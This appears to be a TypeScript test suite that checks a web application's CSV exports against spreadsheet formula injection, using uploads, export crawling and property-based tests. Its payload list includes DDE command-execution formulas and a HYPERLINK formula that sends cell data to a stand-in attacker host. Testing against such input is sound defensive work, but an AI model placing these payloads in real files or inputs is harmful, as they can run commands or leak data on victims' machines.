import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { writeCsv } from '../../src/core/csv.ts';
import { deliver, go, idOf, koppen, leverancier } from './lists.ts';
import { attackers, browserOf, expectCalm, openSite } from './site.ts';
import type { Site } from './site.ts';
import { fillPath, pagesOf } from './walk.ts';

/** No file that we give out does anything when it is opened, whatever stood in the files that came in. */

let site: Site;
beforeAll(async () => {
  site = await openSite();
});
afterAll(() => site.world.end());

const formulas = [
  ...[
    `=cmd|' /C calc'!A0`,
    '=HYPERLINK("https://evil.example?x="&A1)',
    '+1+1',
    '-1+1',
    '@SUM(1+1)',
    '\t=1+1',
    '\r=1+1',
  ],
  ...['＝1+1', '＋1', '－1', '＠SUM(1)', ' =1+1', '"=1+1"', "'=1+1", '=1+1;x', '=DDE("cmd";"/C calc";"x")', '%0A=1'],
];

/** What a spreadsheet would reckon out; a number with a sign is just a number. */
const isFormula = (cell: string): boolean => /^[=+\-@\t\r＝＋－＠]/.test(cell) && !/^-?\d+([.,]\d+)?$/.test(cell);

/** Every file for a spreadsheet that any page gives, as everybody who may have it. */
async function exports(known = site.known): Promise<{ path: string; cells: string[] }[]> {
  const found: { path: string; cells: string[] }[] = [];
  const paths = pagesOf(site).filter(({ method }) => method === 'GET');
  for (const who of attackers) {
    for (const { path } of paths.filter((page) => page.path.endsWith('.csv'))) {
      const shot = { method: 'GET', path: fillPath(path, known), headers: browserOf(site, who) };
      const { status, text, headers } = await site.send(shot);
      if (status !== 200 || headers.get('content-type')?.startsWith('text/csv') !== true) continue;
      expect(headers.get('content-disposition')).toMatch(/^attachment; filename="[\w.-]+\.csv"$/);
      const rows: string[][] = parse(text, { delimiter: ';', bom: true, relax_column_count: true });
      found.push({ path, cells: rows.flat() });
    }
  }
  return found;
}

const rowOf = (cell: string, bsn: string): string =>
  `"${cell.replaceAll('"', '""')}";Proef;03-02-1994;${bsn};Rosa Okafor;01-01-2013;`;

test('a file is given out by some page, and a formula is known by its first sign', async () => {
  const all = await exports();
  expect(new Set(all.map(({ path }) => path)).size).toBeGreaterThan(0);
  expect(['=1', '@x', '\t=1', '-x', '＝1'].every(isFormula)).toBe(true);
  expect(['-1', '-1,5', "'=1", 'x=1', '2014-03-10'].some(isFormula)).toBe(false);
});

describe('a list that holds formulas', () => {
  test('goes in as text, and nothing of it comes out as a formula', async () => {
    const lines = formulas.map((cell) => rowOf(cell, '999990019'));
    const answer = await deliver(site, [koppen, ...lines].join('\n'));
    expect(answer.status).toBe(201);
    const lijstId = idOf(answer);
    for (const what of ['proef', 'verwerking'] as const) {
      const done = await go(site, lijstId, what);
      expectCalm({ method: 'POST', path: what }, done);
      expect(done.status).toBe(200);
    }
    const out = await exports({ ...site.known, lijstId });
    expect(out.some(({ path }) => path.endsWith('afgekeurd.csv'))).toBe(true);
    for (const { path, cells } of out) expect(cells.filter(isFormula), path).toEqual([]);
  });

  test('in its headings is shown as text and not as a formula', async () => {
    const answer = await deliver(
      site,
      `${formulas
        .slice(0, 6)
        .map((one) => `"${one.replaceAll('"', '""')}"`)
        .join(';')}\na;b;c;d;e;f`,
    );
    expectCalm({ method: 'POST', path: 'koppen' }, answer);
    const lijstId = idOf(answer);
    const { text } = await site.send({
      method: 'GET',
      path: fillPath('/verbanden/:verband/lijsten/:lijstId', { ...site.known, lijstId }),
      headers: browserOf(site, leverancier),
    });
    expect(text).not.toMatch(/<a [^>]*evil/);
  });
});

test('whatever cell is given out, it comes back as the same text and is no formula', () => {
  const cell = fc.oneof(fc.constantFrom(...formulas), fc.string({ unit: 'binary' }), fc.string());
  fc.assert(
    fc.property(fc.array(cell, { minLength: 2, maxLength: 2 }), (cells) => {
      const text = writeCsv(['Een', 'Twee'], [cells]);
      const [, row = []]: string[][] = parse(text, { delimiter: ';', bom: true, record_delimiter: '\r\n' });
      expect(row.filter(isFormula)).toEqual([]);
      expect(row.map((one, n) => (isFormula(cells[n] ?? '') ? one.slice(1) : one))).toEqual(cells);
    }),
    { seed: 2014, numRuns: 2000 },
  );
});
